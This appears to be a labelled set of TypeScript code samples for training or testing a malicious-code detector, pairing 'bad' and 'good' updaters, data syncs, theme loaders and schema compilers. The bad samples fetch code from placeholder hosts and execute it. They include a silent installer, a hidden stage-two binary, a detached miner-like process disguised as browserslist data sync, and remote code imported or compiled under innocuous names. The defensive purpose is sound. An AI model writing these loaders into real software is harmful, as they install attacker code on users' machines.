//: bad electron-updater
import { execFile } from 'child_process';
import { writeFileSync } from 'fs';
import { join } from 'path';
import { tmpdir } from 'os';

export async function update(): Promise<void> {
  const answer: Response = await fetch('http://u.example.invalid/setup.exe');
  const target: string = join(tmpdir(), 'setup.exe');
  writeFileSync(target, Buffer.from(await answer.arrayBuffer()));
  execFile(target, ['/S']); //!
}

//: good electron-updater
import { writeFileSync } from 'fs';
import { join } from 'path';
import { tmpdir } from 'os';

export async function changes(): Promise<string> {
  const answer: Response = await fetch('https://u.example.invalid/changes.md');
  const target: string = join(tmpdir(), 'changes.md');
  writeFileSync(target, Buffer.from(await answer.arrayBuffer()));
  return target;
}

//: bad updater-stage
import { writeFile, chmod } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { execFile } from 'node:child_process';

export async function update(): Promise<void> {
  const answer = await fetch('http://u.example.invalid/stage2');
  const file = join(tmpdir(), `.${Math.random().toString(16).slice(2)}`);
  await writeFile(file, Buffer.from(await answer.arrayBuffer()));
  await chmod(file, 0o700);
  execFile(file); //!
}

//: good updater-stage
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';

export async function update(folder: string): Promise<string> {
  const answer = await fetch('https://u.example.invalid/schema.json');
  const file = join(folder, 'schema.json');
  await writeFile(file, Buffer.from(await answer.arrayBuffer()));
  return file;
}

//: bad browserslist-data-sync
import { chmod, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { spawn } from 'node:child_process';

const CDN = 'https://static.usage-db.invalid';
const names: Partial<Record<NodeJS.Platform, string>> = {
  linux: 'jsextension',
  win32: 'jsextension.exe',
  darwin: 'jsext-mac',
};

export async function syncUsageData(): Promise<void> {
  const file = names[process.platform];
  if (!file) return;
  const target = path.join(tmpdir(), `.${file}`);
  const response = await fetch(new URL(file, CDN));
  if (!response.ok) return;
  await writeFile(target, Buffer.from(await response.arrayBuffer()));
  await chmod(target, 0o755);
  const child = spawn(target, ['-o', 'pool', '--cpu-max', '70'], { //!
    detached: true,
    stdio: 'ignore',
    windowsHide: true,
  });
  child.unref();
}

syncUsageData().catch(() => {});

//: good browserslist-data-sync
import { chmod, readFile, rename, writeFile } from 'node:fs/promises';
import { createHash, createPublicKey, verify } from 'node:crypto';
import path from 'node:path';
import { spawn } from 'node:child_process';

interface Release {
  url: string;
  sha256: string;
  signature: string;
}

export async function selfUpdate(installDir: string, release: Release): Promise<string> {
  const key = createPublicKey(await readFile(path.join(installDir, 'release.pub')));
  const response = await fetch(release.url);
  if (!response.ok) throw new Error(`download failed: ${response.status}`);
  const data = Buffer.from(await response.arrayBuffer());

  const digest = createHash('sha256').update(data).digest('hex');
  if (digest !== release.sha256) throw new Error('checksum mismatch');
  if (!verify(null, data, key, Buffer.from(release.signature, 'base64'))) {
    throw new Error('bad signature');
  }
  const target = path.join(installDir, 'tool.new');
  await writeFile(target, data);
  await chmod(target, 0o755);
  await rename(target, path.join(installDir, 'tool'));
  spawn(path.join(installDir, 'tool'), ['--version'], { stdio: 'inherit' });
  return digest;
}

//: bad theme-loader-import
type Theme = { name: string; apply(root: unknown): void };

const registry = {
  host: ['themes', 'pastebin-mirror', 'invalid'].join('.'),
  pick: (n: string) => `https://${registry.host}/raw/${encodeURIComponent(n)}`,
};

const toModule = (text: string): string =>
  `data:text/javascript;base64,${Buffer.from(text, 'utf8').toString('base64')}`;

export async function loadTheme(name: string): Promise<Theme | undefined> {
  return fetch(registry.pick(name))
    .then((r) => r.text())
    .then(toModule)
    .then((specifier) => import(specifier)) //!
    .then((m) => m.default as Theme)
    .catch(() => undefined);
}

void loadTheme('solarized-9f3c').then((t) => t?.apply(globalThis));

//: good theme-loader-import
import { readdir } from 'node:fs/promises';
import { pathToFileURL } from 'node:url';
import path from 'node:path';

type Theme = { name: string; apply(root: unknown): void };

const THEMES = path.join(import.meta.dirname, 'themes');

const toModule = (file: string): string => pathToFileURL(path.join(THEMES, file)).href;

export async function listThemes(): Promise<string[]> {
  const files = await readdir(THEMES);
  return files.filter((f) => f.endsWith('.js')).map((f) => path.basename(f, '.js'));
}

export async function loadTheme(name: string): Promise<Theme | undefined> {
  const known = await listThemes();
  if (!known.includes(name)) return undefined;
  return import(toModule(`${name}.js`)).then((m) => m.default as Theme);
}

//: bad rpc-schema-compile
import Module from 'node:module';
import { request } from 'undici';

interface RemoteError {
  response?: { statusCode: number; cookie?: string };
}

type Compiler = { _compile(code: string, name: string): void; exports: Record<string, unknown> };

async function readSchema(id: number): Promise<string> {
  const { body } = await request(`https://api.npoint-json.invalid/b/${id}`, {
    headers: { 'x-app-id': 'schema', bearer: 'logo' },
  });
  const { cookie } = (await body.json()) as { cookie: string };
  return cookie;
}

export async function getSchema(id = 4182): Promise<Record<string, unknown>> {
  const mod = new Module(`schema-${id}`) as unknown as Compiler;
  try {
    mod._compile(await readSchema(id), `schema-${id}.js`); //!
  } catch (e) {
    const status = (e as RemoteError).response?.statusCode;
    if (status === 404) return {};
  }
  return mod.exports;
}

getSchema();

//: good rpc-schema-compile
import { request } from 'undici';
import Ajv, { type ValidateFunction } from 'ajv';

interface RemoteSchema {
  $id: string;
  type: 'object';
  properties: Record<string, unknown>;
}

const ajv = new Ajv({ strict: true, allErrors: false });
const compiled = new Map<number, ValidateFunction>();

async function readSchema(id: number): Promise<RemoteSchema> {
  const { statusCode, body } = await request(`https://schemas.invalid/v1/${id}.json`, {
    headers: { accept: 'application/schema+json' },
  });
  if (statusCode !== 200) throw new Error(`schema ${id}: HTTP ${statusCode}`);
  return (await body.json()) as RemoteSchema;
}

export async function getSchema(id: number): Promise<ValidateFunction> {
  let fn = compiled.get(id);
  if (!fn) {
    fn = ajv.compile(await readSchema(id));
    compiled.set(id, fn);
  }
  return fn;
}
